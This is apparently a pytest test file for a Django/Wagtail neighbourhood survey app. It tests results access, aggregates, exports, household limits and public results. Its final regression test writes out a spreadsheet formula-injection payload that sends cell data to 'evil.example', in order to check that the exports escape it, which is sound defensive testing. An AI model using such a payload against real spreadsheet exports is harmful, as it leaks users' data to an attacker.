import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from surveys.models import SurveyResponse
from surveys.services import SurveyRefused, survey_response_submit
from tests.factories.neighbourhoods import member
from tests.factories.surveys import survey_page

from .conftest import keys


def answers_for(survey, cycle="yes", text="Plus de bancs"):
    k = keys(survey)
    answers = {
        k["Do you cycle in town?"]: cycle,
        k["What is your main way to get around?"]: "2",
        k["How safe do you feel at night?"]: 7,
        k["Anything else?"]: text,
    }
    if cycle == "yes":
        answers[k["What would make cycling safer?"]] = ["0", "3"]
    return answers


@pytest.fixture
def answered(survey, neighbourhoods):
    a, b = neighbourhoods
    for index in range(6):
        survey_response_submit(
            survey=survey,
            user=member(neighbourhood=a),
            answers=answers_for(survey, text=f"idée {index}"),
        )
    for _ in range(2):
        survey_response_submit(
            survey=survey,
            user=member(neighbourhood=b),
            answers=answers_for(survey, cycle="no", text="rien"),
        )
    return survey


@pytest.mark.parametrize("role", ["Participation staff", "Communications officers", "superuser"])
def test_results_staff_see_participation_aggregates_and_charts(client_for, answered, role):
    page = client_for(role).get(f"/admin/survey-results/{answered.pk}/").content.decode()
    assert "8 réponses" in page
    assert "<svg" in page and "<table" in page
    assert "Bike lanes" in page


@pytest.mark.parametrize("role", ["member of A", "Newsletter editors", "Verification staff"])
def test_results_are_refused_to_other_roles(client_for, answered, role):
    response = client_for(role).get(f"/admin/survey-results/{answered.pk}/")
    assert response.status_code in (302, 403)
    assert client_for(role).get(f"/admin/survey-results/{answered.pk}/export.csv").status_code in (
        302,
        403,
    )


def test_results_page_query_count_is_pinned(client_for, answered, django_assert_max_num_queries):
    client = client_for("Participation staff")
    with django_assert_max_num_queries(20):
        assert client.get(f"/admin/survey-results/{answered.pk}/").status_code == 200


def test_participation_is_a_share_of_registered_households(answered, neighbourhoods):
    from surveys.selectors import survey_participation

    participation = survey_participation(survey=answered)
    rows = {row.name: row for row in participation.rows}
    assert rows["Mons-Centre"].responses == 6 and rows["Jemappes"].responses == 2
    assert participation.registered == 8
    assert participation.share == 100


def test_aggregates_computed_in_the_database(answered):
    from surveys.selectors import survey_question_results

    results = {
        r.question.label: r for r in survey_question_results(survey=answered, total_responses=8)
    }
    scale = results["How safe do you feel at night?"]
    assert scale.answered == 8 and scale.mean == 7
    safer = results["What would make cycling safer?"]
    assert safer.answered == 6
    assert {bar.label: bar.count for bar in safer.bars}["Bike lanes"] == 6


def test_csv_export_streams_every_response(client_for, answered):
    response = client_for("Participation staff").get(
        f"/admin/survey-results/{answered.pk}/export.csv"
    )
    assert response.streaming
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 9
    assert "Bike lanes; Slower cars" in rows[1]


def test_xlsx_export(client_for, answered):
    response = client_for("Communications officers").get(
        f"/admin/survey-results/{answered.pk}/export.xlsx"
    )
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    assert len(list(book.active.rows)) == 9


def test_free_text_answers_listed_and_searchable(client_for, answered):
    key = keys(answered)["Anything else?"]
    client = client_for("Participation staff")
    page = client.get(f"/admin/survey-results/{answered.pk}/answers/{key}/?q=idée 3")
    assert "idée 3" in page.content.decode() and "idée 4" not in page.content.decode()


def test_public_results_after_closing_hide_small_counts(client, answered):
    answered.results_public = True
    answered.closes_at = timezone.now() - timedelta(hours=1)
    answered.opens_at = timezone.now() - timedelta(days=3)
    answered.save_revision().publish()
    page = client.get(f"/enquetes/{answered.pk}/resultats/").content.decode()
    assert "moins de 5" in page  # Jemappes has 2
    assert "idée" not in page  # no free text in public


def test_public_results_not_shown_while_open(client, answered):
    assert client.get(f"/enquetes/{answered.pk}/resultats/").status_code == 404


def test_service_refuses_second_household_member_with_the_date(survey, neighbourhoods):
    first = member(neighbourhood=neighbourhoods[0])
    survey_response_submit(survey=survey, user=first, answers=answers_for(survey))
    housemate = member(household=first.memberships.get().household)
    with pytest.raises(SurveyRefused) as refused:
        survey_response_submit(survey=survey, user=housemate, answers=answers_for(survey))
    assert refused.value.refusal.code == "already_answered"
    assert SurveyResponse.objects.count() == 1


def test_one_per_household_holds_across_translations(survey, neighbourhoods):
    from wagtail.models import Locale

    dutch = survey.copy_for_translation(Locale.objects.get(language_code="nl"), copy_parents=True)
    dutch.save_revision().publish()
    first = member(neighbourhood=neighbourhoods[0])
    survey_response_submit(survey=survey, user=first, answers=answers_for(survey))
    housemate = member(household=first.memberships.get().household)
    with pytest.raises(SurveyRefused):
        survey_response_submit(survey=dutch.specific, user=housemate, answers=answers_for(survey))


def test_resident_mode_allows_each_member_once(neighbourhoods):
    survey = survey_page(who_may_answer="resident")
    first = member(neighbourhood=neighbourhoods[0])
    housemate = member(household=first.memberships.get().household)
    survey_response_submit(survey=survey, user=first, answers=answers_for(survey))
    survey_response_submit(survey=survey, user=housemate, answers=answers_for(survey))
    with pytest.raises(SurveyRefused) as refused:
        survey_response_submit(survey=survey, user=first, answers=answers_for(survey))
    assert "Vous avez déjà répondu" in str(refused.value.refusal.message)


@pytest.mark.parametrize(
    "kwargs, message",
    [
        (
            {
                "closes_at": timezone.now() - timedelta(days=1),
                "opens_at": timezone.now() - timedelta(days=5),
            },
            "Cette enquête est clôturée.",
        ),
        ({"opens_at": timezone.now() + timedelta(days=1)}, "pas encore ouverte"),
    ],
)
def test_closed_and_not_yet_open_surveys(client, neighbourhoods, kwargs, message):
    survey = survey_page(**kwargs)
    client.force_login(member(neighbourhood=neighbourhoods[0]))
    assert message in client.get(survey.url).content.decode()


def test_resident_of_a_non_targeted_neighbourhood(client, neighbourhoods):
    from tests.factories.neighbourhoods import NeighbourhoodFactory

    survey = survey_page(neighbourhoods=neighbourhoods)
    client.force_login(member(neighbourhood=NeighbourhoodFactory(code="hyon")))
    response = client.get(survey.url)
    assert response.status_code == 403
    assert "autres quartiers que le vôtre" in response.content.decode()


def test_anonymous_visitor_is_asked_to_log_in(client, survey):
    assert "Connectez-vous pour répondre" in client.get(survey.url).content.decode()


def test_open_survey_on_targeted_hubs_only(client, neighbourhoods):
    from tests.factories.neighbourhoods import NeighbourhoodFactory, hub_page

    survey_page(title="Propreté des rues", neighbourhoods=[neighbourhoods[0]])
    other = NeighbourhoodFactory(code="hyon", name="Hyon")
    hub_page(neighbourhood=other)
    assert "Propreté des rues" in client.get("/mons-centre/").content.decode()
    assert "De la Ville" in client.get("/mons-centre/").content.decode()
    assert "Propreté des rues" not in client.get("/hyon/").content.decode()


def test_city_items_for_members_feeds(neighbourhoods):
    from neighbourhoods.registry import city_items_for

    survey_page(title="Propreté des rues")
    items = city_items_for(neighbourhood=neighbourhoods[1])
    assert [item.kind for item in items] == ["survey"]


def test_a_number_answer_of_zero_is_counted(neighbourhoods):
    from surveys.selectors import survey_question_results

    survey = survey_page(
        questions=[
            {
                "label": "Combien de voitures ?",
                "field_type": "number",
                "required": True,
                "min_value": 0,
            }
        ]
    )
    key = survey.questions[0].key
    survey_response_submit(
        survey=survey, user=member(neighbourhood=neighbourhoods[0]), answers={key: 0}
    )
    (result,) = survey_question_results(survey=survey, total_responses=1)
    assert result.answered == 1 and result.mean == 0


def test_exports_never_carry_a_live_formula(client_for, survey, neighbourhoods):
    """Regression: a free-text answer came out of the XLSX as an <f> cell and raw in the CSV."""
    import zipfile

    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    survey_response_submit(
        survey=survey,
        user=member(neighbourhood=neighbourhoods[0]),
        answers=answers_for(survey, text=attack),
    )
    staff = client_for("Participation staff")
    response = staff.get(f"/admin/survey-results/{survey.pk}/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith("=") for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    response = staff.get(f"/admin/survey-results/{survey.pk}/export.xlsx")
    data = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    values = [c.value for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in values)
